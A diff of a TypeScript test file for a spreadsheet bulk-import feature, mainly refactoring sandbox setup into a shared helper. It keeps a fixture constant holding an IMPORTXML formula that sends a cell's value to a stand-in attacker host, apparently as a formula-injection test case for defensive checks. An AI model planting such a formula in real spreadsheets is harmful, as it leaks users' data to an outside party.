@@ -6,28 +6,17 @@ import { TraceError } from '../../shared/errors/trace-error';
 import { digestOf } from '../../shared/bulk/sheet/cell-values';
 import { BulkPanel } from '../fakes/apps-script/bulk-panel';
 import type { SheetGrid } from '../fakes/apps-script/sheet-grid';
-import type { SheetsWorld } from '../fakes/apps-script/world';
-import { startSandboxProcess, type SandboxProcess } from '../fakes/sandbox-process';
 import { columnOf, NAME, planAll, useCompanies } from './bulk-file';
-import { openWorld } from './open-world';
+import { sandbox, useOneSpreadsheet, world } from './spreadsheet';
 
 const SETTINGS = { cap: null, quoted: 0, maxAgeMs: 30 * 86_400_000 };
 const LIVE = '=IMPORTXML("https://evil.example/?"&A2,"//a")';
 /** The third column, from its second row on: only the owner may edit it. */
 const OWNERS = { row: 2, column: 3, rows: 3, columns: 1 };
 
-let sandbox: SandboxProcess;
-let world: SheetsWorld;
 let grid: SheetGrid;
 
-beforeAll(async () => {
-  sandbox = await startSandboxProcess();
-  world = await openWorld(sandbox.origin);
-  world.callRpc('setKey', ['trace_demo', 'anotherAccount']);
-});
-
-beforeEach(() => sandbox.reset());
-afterAll(() => Promise.all([world.stop(), sandbox.stop()]));
+useOneSpreadsheet();
 
 /** A finished run of the owner, with a price list beside it that only the owner may edit. */
 async function enrich(rows: number, cap: number | null = null): Promise<void> {
